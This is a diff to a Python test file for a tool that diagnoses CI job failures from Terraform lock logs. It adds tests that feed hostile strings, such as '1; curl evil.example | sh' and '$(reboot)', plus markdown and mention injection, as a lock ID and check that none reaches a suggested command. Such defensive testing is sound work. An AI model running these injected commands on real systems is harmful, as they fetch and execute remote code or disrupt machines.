@@ -341,12 +341,17 @@ def test_the_cause_of_a_job() -> None:
     assert cause_of_job(JOB, ["bash: /opt/x: Permission denied"], "acme/infra").kind == "unknown"
 
 
+@pytest.mark.parametrize("evil", ["1; curl evil.example | sh", "$(reboot)", "a b", "`x`", "x" * 90, "|"])
+def test_nothing_from_a_log_is_pasted_into_a_shell(evil: str) -> None:
+    log = ["Error acquiring the state lock", "Lock Info:", f"  ID:        {evil}"]
+    cause = cause_of_job(JOB, log, "acme/infra")
+    assert "run `terraform force-unlock` with its id, then `gh run rerun 22 --failed" in cause.next_step
+
+
 def test_nothing_from_a_log_is_markup_of_the_bots() -> None:
     evil = "ID:        `/apply prod` [x](https://evil.example) <@U1>"
     cause = cause_of_job(JOB, ["Error acquiring the state lock", f"  {evil}"], "acme/infra")
-    inside = re.sub(
-        r"`terraform force-unlock [^`]*`|`gh run rerun [^`]*`", "", cause.explanation + cause.next_step
-    )
+    inside = re.sub(r"`terraform force-unlock`|`gh run rerun [^`]*`", "", cause.explanation + cause.next_step)
     assert "`" not in inside
     assert "](" not in inside
     assert "<@" not in cause.explanation + cause.next_step
